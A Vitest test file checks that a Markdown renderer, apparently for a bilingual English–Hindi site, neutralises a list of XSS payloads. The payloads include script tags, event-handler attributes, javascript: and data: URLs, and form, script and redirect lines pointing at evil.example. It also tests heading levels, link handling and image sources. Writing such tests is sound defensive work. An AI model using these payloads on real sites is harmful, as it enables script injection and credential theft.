import { describe, expect, test } from 'vitest';
import { renderMarkdown } from './render-markdown.ts';

const html = (en: string, base: 2 | 4 = 2) => renderMarkdown({ en }, base).en;

/** Known attacks on Markdown renderers. */
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><path/></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<form action="https://evil.example"><input name=password></form>',
  '<style>body{background:url(https://evil.example)}</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '[x](https://shop.example "onmouseover=alert(1) \\" onclick=\\"alert(1)")',
  '[x](https://shop.example" onclick="alert(1))',
  '![x](x" onerror="alert(1))',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![" onload="alert(1)](/media/0123456789abcdef/800.webp)',
  '![x](/media/../api/v1/posts)',
  '![x](//evil.example/track.gif)',
  '![x](https://evil.example/track.gif)',
  '![x](/media/0123456789abcdef/800.webp?to=https://evil.example)',
  '`<script>alert(1)</script>`',
  '```html" onclick="alert(1)\n<script>alert(1)</script>\n```',
  '# x <img src=x onerror=alert(1)>',
  '| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
];

describe('Markdown that means harm', () => {
  test.each(attacks)('%j renders harmless', (attack) => {
    const rendered = html(attack);
    // Tags that are left, without the text between them: what a browser would act on.
    const tags = rendered.match(/<[^>]*>/g) ?? [];
    for (const tag of tags) {
      expect(tag).toMatch(
        /^<\/?(h[2-6]|p|br|hr|ul|ol|li|blockquote|pre|code|strong|em|s|a|img|table|thead|tbody|tr|th|td)(\s+[a-z]+="[^"<>]*")*\s*\/?>$/,
      );
      expect(tag.replaceAll(/\s(title|alt)="[^"]*"/g, '')).not.toMatch(/\son\w+=|style=|srcset=|(javascript|vbscript|data|file):/i);
      if (tag.startsWith('<img')) expect(tag).toMatch(/ src="\/media\/[0-9a-f]+\/\d+\.webp"/);
    }
  });
});

test('headings stand below those of the page and skip no level', () => {
  expect(html('# A\n\n### B\n\n## C')).toBe('<h2>A</h2>\n<h3>B</h3>\n<h3>C</h3>');
  expect(html('### A\n\ntext\n\n##### B')).toContain('<h2>A</h2>');
  expect(html('## A\n\n### B', 4)).toBe('<h4>A</h4>\n<h5>B</h5>');
});

test('a table without a head is a list of facts, each headed by its name', () => {
  expect(html('| | |\n|---|---|\n| Name | Meera |\n| Town | [Agra](/x) |').replaceAll('\n', '')).toBe(
    '<table><tbody><tr><th scope="row">Name</th><td>Meera</td></tr><tr><th scope="row">Town</th><td><a href="/x">Agra</a></td></tr></tbody></table>',
  );
  const both = html('| | |\n|---|---|\n| a | b |\n\ntext\n\n| What | Where |\n|---|---|\n| c | d |');
  expect(both.match(/<t[hd][^>]*>\w+/g)).toEqual(['<th scope="row">a', '<td>b', '<th>What', '<th>Where', '<td>c', '<td>d']);
});

test('a link to another host passes on neither our window nor our address', () => {
  expect(html('[x](https://craft.example/a?b=1&c=2)')).toBe(
    '<p><a href="https://craft.example/a?b=1&amp;c=2" rel="noopener noreferrer">x</a></p>',
  );
  expect(html('[x](/faqs#delivery)')).toBe('<p><a href="/faqs#delivery">x</a></p>');
});

test('a link of a Hindi text leads to the Hindi page', () => {
  const { hi } = renderMarkdown(
    { en: 'x', hi: '[a](/faqs) [b](/hi/blog) [c](/media/ab/1.webp) [d](/) [e](https://x.example/faqs) [f](//x.example)' },
    2,
  );
  expect([...String(hi).matchAll(/href="([^"]*)"/g)].map((match) => match[1])).toEqual([
    '/hi/faqs',
    '/hi/blog',
    '/media/ab/1.webp',
    '/hi',
    'https://x.example/faqs',
  ]);
});

test('pictures come from our own media alone and wait until they are near', () => {
  expect(html('![a bowl](/media/0123456789abcdef/800.webp)')).toBe(
    '<p><img src="/media/0123456789abcdef/800.webp" alt="a bowl" loading="lazy" decoding="async" /></p>',
  );
  expect(html('![a bowl](https://other.example/1.webp)')).toBe('<p></p>');
});
